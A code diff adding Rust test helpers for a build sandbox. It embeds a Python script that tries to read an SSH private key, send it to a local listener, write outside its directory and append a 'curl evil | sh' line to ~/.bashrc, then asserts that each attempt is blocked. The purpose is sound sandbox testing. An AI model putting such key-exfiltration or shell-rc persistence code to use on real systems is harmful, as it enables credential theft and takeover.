@@ -150,6 +150,109 @@ pub fn py_evil_build(marker: &str) -> String {
     )
 }
 
+/// Python build code for the confinement tests: tries to read a fake
+/// `~/.ssh/id_rsa`, send it to the loopback port in `~/.evil-port` straight
+/// (a socket, no proxy) and through urllib (the proxy variables), write
+/// `~/outside-marker`, append to `~/.bashrc` and write into its temp dir;
+/// each attempt's outcome (`ok` or the error) goes into marker `name` as
+/// JSON. It never fails the build itself.
+pub fn py_confined_build(name: &str) -> String {
+    r#"import os as _o, json as _j, socket as _s, tempfile as _t, urllib.request as _u
+_h = _o.path.expanduser('~')
+_r = {}
+def _try(k, f):
+    try:
+        v = f()
+        _r[k] = 'ok'
+        return v or ''
+    except Exception as e:
+        _r[k] = type(e).__name__ + ': ' + str(e)[:200]
+        return ''
+_key = _try('ssh', lambda: open(_o.path.join(_h, '.ssh', 'id_rsa')).read())
+_port = int(open(_o.path.join(_h, '.evil-port')).read().strip())
+def _direct():
+    c = _s.create_connection(('127.0.0.1', _port), timeout=5)
+    c.sendall(b'POST /direct HTTP/1.0\r\nContent-Length: 3\r\n\r\nkey' + _key.encode())
+    c.close()
+_try('direct', _direct)
+_try('proxied', lambda: _u.urlopen('http://127.0.0.1:%d/proxied' % _port, data=b'key' + _key.encode(), timeout=5).read())
+_try('outside', lambda: open(_o.path.join(_h, 'outside-marker'), 'w').write('x'))
+_try('bashrc', lambda: open(_o.path.join(_h, '.bashrc'), 'a').write('curl evil | sh\n'))
+_try('tmp', lambda: open(_o.path.join(_t.gettempdir(), 'tmp-marker'), 'w').write('x'))
+_d = _o.environ.get(ENV) or _h
+with open(_o.path.join(_d, NAME), 'w') as _f:
+    _f.write(_j.dumps(_r))
+"#
+    .replace("ENV", &serde_json::json!(MARKER_DIR_ENV).to_string())
+    .replace("NAME", &serde_json::json!(name).to_string())
+}
+
+/// Sets up what [`py_confined_build`] attacks in `home` (a fake SSH key,
+/// `~/.bashrc`, the port of `evil`, a listener no policy allows) .
+pub fn py_confined_home(home: &std::path::Path, evil: &registry::Listener) {
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), "FAKE-KEY-confined-s3cret").unwrap();
+    if !home.join(".bashrc").exists() {
+        std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    }
+    let port = evil
+        .base_url()
+        .rsplit(':')
+        .next()
+        .unwrap()
+        .trim_end_matches('/')
+        .to_string();
+    std::fs::write(home.join(".evil-port"), port).unwrap();
+}
+
+/// Checks the outcome of an approved [`py_confined_build`] that ran
+/// confined: its report (the marker's text) shows every attempt failed,
+/// `evil` got nothing, nothing outside was written; and the build's
+/// `script` record names the layers in force.
+pub fn assert_py_confined(
+    what: &str,
+    report: Option<String>,
+    evil: &registry::Listener,
+    home: &std::path::Path,
+    record: &serde_json::Value,
+) {
+    let report = report.unwrap_or_else(|| panic!("{what}: the approved build did not run"));
+    let r: serde_json::Value = serde_json::from_str(&report).unwrap();
+    for k in ["ssh", "direct", "proxied", "outside", "bashrc"] {
+        assert_ne!(r[k], "ok", "{what}: `{k}` was allowed: {r}");
+    }
+    assert_eq!(r["tmp"], "ok", "{what}: its temp dir: {r}");
+    assert_eq!(
+        evil.connections().len(),
+        0,
+        "{what}: the listener was reached"
+    );
+    assert!(!home.join("outside-marker").exists(), "{what}");
+    assert!(
+        !std::fs::read_to_string(home.join(".bashrc"))
+            .unwrap()
+            .contains("evil"),
+        "{what}"
+    );
+    let layers = record["sandbox"]["layers"].to_string();
+    for l in [
+        "env-scrub",
+        "private-tmp",
+        "landlock-fs",
+        "landlock-net",
+        "seccomp",
+    ] {
+        assert!(layers.contains(l), "{what}: no {l} in {record}");
+    }
+    let netns = std::process::Command::new("unshare")
+        .args(["-Urn", "true"])
+        .status()
+        .is_ok_and(|s| s.success());
+    if netns {
+        assert!(layers.contains("\"netns\""), "{what}: no netns in {record}");
+    }
+}
+
 /// Python code that writes marker `name` (contents `ran`).
 pub fn py_marker(name: &str) -> String {
     format!(
